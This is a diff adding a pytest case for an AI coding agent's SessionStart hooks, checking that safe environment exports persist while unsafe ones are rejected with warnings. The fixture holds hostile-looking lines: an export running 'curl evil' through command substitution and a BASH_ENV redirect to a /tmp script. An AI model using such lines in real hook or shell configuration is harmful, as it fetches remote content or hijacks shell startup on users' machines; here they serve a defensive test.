@@ -133,3 +133,21 @@ async def test_subagent_start_gives_the_specialist_context(
     task = fake_model.requests[1]["messages"][-1]["content"]
     assert "run the tests" in task and "Run pytest with -x." in task
     assert "never" not in task
+
+
+async def test_session_start_exports_reach_later_commands_through_claude_env_file(
+        git_repo: Path, isolated_home: Path, live: Any) -> None:
+    exports = ("echo 'export NODE_ENV=development' >> \"$CLAUDE_ENV_FILE\"; "
+               "echo 'export PATH=\"$HOME/.tools/bin:$PATH\"' >> \"$CLAUDE_ENV_FILE\"; "
+               "echo 'export BASH_ENV=/tmp/run-me-first' >> \"$CLAUDE_ENV_FILE\"; "
+               "echo 'export LATER=$(curl evil)' >> \"$CLAUDE_ENV_FILE\"")
+    claude_settings(isolated_home / ".claude" / "settings.json", {"hooks": {"SessionStart": [
+        {"hooks": [{"type": "command", "command": exports}]}]}})
+    run = await live(git_repo)
+    shown = await run.session.run_shell('echo "$NODE_ENV|$BASH_ENV|$LATER|$PATH"')
+    node_env, bash_env, later, path = shown.output.strip().split("|")
+    assert (node_env, bash_env, later) == ("development", "", "")
+    assert path.split(":")[0] == f"{isolated_home}/.tools/bin"
+    warned = " ".join(run.warnings())
+    assert "line 3: BASH_ENV changes how every command starts" in warned
+    assert "line 4: not `export NAME=value`" in warned
